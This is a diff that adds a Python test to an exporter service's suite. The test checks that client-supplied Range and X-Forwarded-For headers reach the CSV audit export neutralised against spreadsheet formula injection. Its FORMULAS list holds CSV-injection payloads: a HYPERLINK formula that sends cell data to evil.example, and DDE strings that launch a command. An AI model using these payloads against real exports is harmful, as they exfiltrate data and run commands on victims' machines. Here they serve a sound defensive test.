@@ -6,8 +6,12 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import csv
 import hashlib
+import io
 import os
+import subprocess
+import sys
 import uuid
 from pathlib import Path
 
@@ -15,7 +19,7 @@ import httpx
 
 from exporter.embedded import EmbeddedPostgres
 from exporter.files.demo import LARGE_NAME
-from tests.support import Server, fetch, run_sql, wait_until
+from tests.support import ROOT, Server, fetch, run_sql, wait_until
 
 RANGE = 64 * 1024
 
@@ -151,3 +155,53 @@ def test_audit_rows_of_an_outage_are_written_when_the_database_is_back(
                 lambda: httpx.get(s.url + "/files/a.txt", timeout=30).status_code == 200, 10)
     finally:
         pg.stop()
+
+
+# (A header's value cannot start with a tab or CR: HTTP strips the whitespace around it.)
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_the_audit_trail_as_csv_runs_no_formula(
+    make_server: type[Server], database_url: str, tmp_path: Path
+) -> None:
+    """What clients send reaches the audit trail (a Range header, a proxy's
+    X-Forwarded-For); /downloads.csv writes a cell that a spreadsheet would run after a
+    quote (OWASP), the audit row keeps the parsed range, not the header's text, and the
+    datasets' own exports keep COPY's bytes."""
+    s = make_server({"EXPORTER_FORWARDED_ALLOW_IPS": "127.0.0.1",
+                     "EXPORTER_AUDIT_FLUSH_INTERVAL": "0.2"}).start()
+    admin = subprocess.run(
+        [sys.executable, "-m", "exporter.cli", "token", "create", "--name",
+         f"formula-{uuid.uuid4().hex[:6]}", "--scope", "admin"],
+        cwd=ROOT, env={**os.environ, "EXPORTER_DATABASE_URL": database_url},
+        capture_output=True, text=True, check=True, timeout=60).stdout.strip()
+    before = _max_id(database_url)
+    marker = uuid.uuid4().hex
+    for formula in FORMULAS:
+        r = httpx.get(f"{s.url}/files/README.txt?m={marker}",
+                      headers={"Range": formula, "X-Forwarded-For": formula})
+        assert r.status_code == 200
+    r = httpx.get(f"{s.url}/files/README.txt", headers={"Range": "bytes=0-3, -2"})
+    assert r.status_code == 206
+    assert wait_until(lambda: len(fetch(
+        database_url, "SELECT id FROM exporter.downloads WHERE id > $1 AND kind = 'file'"
+        " AND status <> 'running'", before)) >= len(FORMULAS) + 1, 20)
+    rows = fetch(database_url, "SELECT range, client FROM exporter.downloads WHERE id > $1"
+                 " AND kind = 'file' ORDER BY id", before)
+    assert [r["range"] for r in rows] == [None] * len(FORMULAS) + ["bytes=0-3,-2"]
+    auth = {"Authorization": f"Bearer {admin}"}
+    got = httpx.get(f"{s.url}/downloads.csv?id=gt.{before}&kind=eq.file&order=id", headers=auth)
+    assert got.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(got.text, newline="")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    clients = [row[0] for row in csv.reader(io.StringIO(httpx.get(
+        f"{s.url}/downloads.csv?id=gt.{before}&kind=eq.file&order=id&select=client",
+        headers=auth).text, newline=""))][1:]
+    # (uvicorn keeps the last of X-Forwarded-For's comma-separated addresses: the first
+    # formula arrives cut.)
+    assert clients[1:len(FORMULAS)] == ["'" + f for f in FORMULAS[1:]]
+    # The same rows as JSON are the values themselves; a dataset's CSV is COPY's bytes.
+    listed = httpx.get(f"{s.url}/downloads?id=gt.{before}&kind=eq.file&order=id",
+                       headers=auth).json()
+    assert [r["client"] for r in listed][1:len(FORMULAS)] == FORMULAS[1:]
